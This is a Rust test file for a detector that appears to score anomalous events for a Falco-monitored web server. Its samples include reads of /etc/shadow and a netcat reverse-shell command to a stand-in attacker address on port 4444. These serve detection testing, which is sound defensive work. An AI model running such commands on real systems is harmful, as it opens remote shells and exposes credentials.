//! The score of an event that is no execution: computed when somebody asks, once, and absent while it is not known.

use crate::support::{Host, config, configured, connect_to, exec, open};

const READ: u32 = 1;
const WRITE: u32 = 2;
const CREATE: u32 = 4;

/// The first event's time, in nanoseconds, and how far the next one is from it.
const START: u64 = 1_700_000_000_000_000_000;
const STEP: u64 = 60_000_000_000;

/// A host whose web server has read, written and called what it does all day, and what time it is then.
fn settled() -> (tempfile::TempDir, Host, u64) {
    let directory = tempfile::tempdir().expect("a directory");
    let keys = r#""feed": "falco", "learn_executions": 20, "learn_acts_for": "1h""#;
    let mut host = Host::new(&configured(directory.path(), keys));
    host.event(exec(200, 1, "/usr/sbin/nginx -g daemon").event());
    let mut time = START;
    for _ in 0..100 {
        for event in routine(time) {
            score(&mut host, event);
        }
        time += STEP;
    }
    (directory, host, time)
}

fn routine(time: u64) -> [Vec<u8>; 4] {
    [
        open(200, "/etc/passwd", READ, time),
        open(200, "www/index.html", READ, time + 1),
        open(200, "/var/log/nginx/access.log", WRITE | CREATE, time + 2),
        connect_to(200, "10.0.0.5:5432".parse().expect("an address"), time + 3),
    ]
}

fn score(host: &mut Host, event: Vec<u8>) -> Option<String> {
    let event = host.event(event);
    host.field(&event, "anomaly.event_score")
}

#[test]
fn what_the_program_does_all_day_is_zero_and_the_first_of_anything_is_not() {
    let (_directory, mut host, time) = settled();
    for event in routine(time) {
        assert_eq!(score(&mut host, event).as_deref(), Some("0.0000"));
    }
    let address = |text: &str| text.parse().expect("an address");
    for (event, reason) in [
        (open(200, "/etc/shadow", READ, time + 10), "shadow"),
        (open(200, "/etc/passwd", READ | WRITE, time + 11), "act nginx open read write in /etc"),
        (connect_to(200, address("203.0.113.9:4444"), time + 12), "public"),
        (connect_to(200, address("10.96.0.1:443"), time + 13), "10.96.0.0 port 443"),
    ] {
        let event = host.event(event);
        let score = host.field(&event, "anomaly.event_score").expect("it has learned");
        assert!(score.as_str() >= "0.8500", "{reason}: {score}");
        let told = host.field(&event, "anomaly.event_reason").expect("a reason");
        assert!(told.contains(reason), "{told}");
        assert!(host.field(&event, "anomaly.event_nearest").is_some());
        assert_eq!(host.field(&event, "anomaly.score"), None, "the process's own execution is still learned");
    }
}

#[test]
fn an_event_is_judged_once_however_many_ask_and_not_at_all_where_nobody_does() {
    let (_directory, mut host, time) = settled();
    let before = host.metric("acts_scored");
    host.event(open(200, "/etc/shadow", READ, time));
    assert_eq!(host.metric("acts_scored"), before, "nobody asked");
    let event = host.event(open(200, "/etc/shadow", READ, time + 1));
    let first = host.field(&event, "anomaly.event_score");
    for field in ["anomaly.event_reason", "anomaly.event_score", "anomaly.event_nearest"] {
        host.field(&event, field);
    }
    assert_eq!(host.field(&event, "anomaly.event_score"), first);
    assert_eq!(host.metric("acts_scored"), before + 1);
}

#[test]
fn there_is_no_score_while_a_kind_is_learned_and_where_nobody_knows_who_acts() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 20));
    host.event(exec(200, 1, "/usr/sbin/nginx -g daemon").event());
    assert_eq!(score(&mut host, open(200, "/etc/passwd", READ, START)), None, "it learns for a day");
    assert_eq!(host.metric("acts_learning"), 1);
    assert_eq!(score(&mut host, open(999, "/etc/passwd", READ, START)), None, "Falco has no such thread");
}

#[test]
fn on_an_execution_it_is_the_execution_s_own() {
    let (_directory, mut host) = Host::learned();
    let event = host.event(exec(300, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444").event());
    let score = host.field(&event, "anomaly.score");
    assert!(score.is_some());
    assert_eq!(host.field(&event, "anomaly.event_score"), score);
    assert_eq!(host.field(&event, "anomaly.event_reason"), host.field(&event, "anomaly.reason"));
    // One that failed is none, and the process's own score is not its.
    let failed = crate::support::Exec { result: -2, ..exec(300, 1, "/usr/bin/none") };
    let event = host.event(failed.event());
    assert_eq!(host.field(&event, "anomaly.event_score"), None);
}
